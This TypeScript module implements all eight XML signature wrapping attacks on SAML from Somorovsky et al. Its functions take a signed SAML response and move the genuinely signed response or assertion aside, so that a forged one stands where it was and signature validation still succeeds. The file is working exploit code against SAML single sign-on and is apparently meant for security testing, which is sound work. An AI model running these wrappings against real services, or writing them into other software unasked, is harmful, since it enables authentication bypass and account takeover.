import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * XML signature wrapping, the eight ways of Somorovsky et al. (*On Breaking SAML*, 2012): what was signed stays in the
 * document, intact, at a place where nobody looks, and something else stands where it was.
 */
export type Wrapping = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

export const WRAPPINGS: readonly Wrapping[] = [1, 2, 3, 4, 5, 6, 7, 8];

const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

const parse = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml');
const write = (document: Document): string => new XMLSerializer().serializeToString(document);

function child(parent: Element, name: string): Element {
  const found = Array.from(parent.childNodes).find(
    (node): node is Element => (node as Element).localName === name,
  );
  if (!found) throw new Error(`${parent.nodeName} has no ${name}`);
  return found;
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.removeChild(child(copy, 'Signature'));
  return copy;
}

/** XSW 1 and 2: a signed response moves into (1), or before (2), the signature of a forged one. */
export function wrapResponse(xml: string, kind: Wrapping, forge: (xml: string) => string): string {
  const original = withoutSignature(parse(xml).documentElement);
  const document = parse(forge(xml));
  const root = document.documentElement;
  root.setAttribute('ID', '_forged-response');
  const signature = child(root, 'Signature');
  const kept = document.importNode(original, true);
  if (kind === 1) signature.appendChild(kept);
  else root.insertBefore(kept, signature);
  return write(document);
}

/** XSW 3 to 8: a signed assertion moves aside for a forged one. */
export function wrapAssertion(xml: string, kind: Wrapping, forge: (xml: string) => string): string {
  const document = parse(xml);
  const root = document.documentElement;
  const original = child(root, 'Assertion');
  const forged = document.importNode(
    child(parse(forge(xml)).documentElement, 'Assertion'),
    true,
  ) as Element;
  forged.setAttribute('ID', '_forged-assertion');
  const signature = child(forged, 'Signature');
  const bare = withoutSignature(original);
  if (kind === 3 || kind === 4 || kind === 7) forged.removeChild(signature);
  if (kind === 3) root.insertBefore(forged, original);
  else if (kind === 7) {
    const extensions = document.createElementNS(SAMLP, 'samlp:Extensions');
    extensions.appendChild(forged);
    root.insertBefore(extensions, original);
  } else {
    root.replaceChild(forged, original);
    if (kind === 4) forged.appendChild(original);
    if (kind === 5) root.appendChild(bare);
    if (kind === 6) signature.appendChild(bare);
    if (kind === 8) {
      const object = document.createElementNS(DS, 'ds:Object');
      object.appendChild(bare);
      signature.appendChild(object);
    }
  }
  return write(document);
}
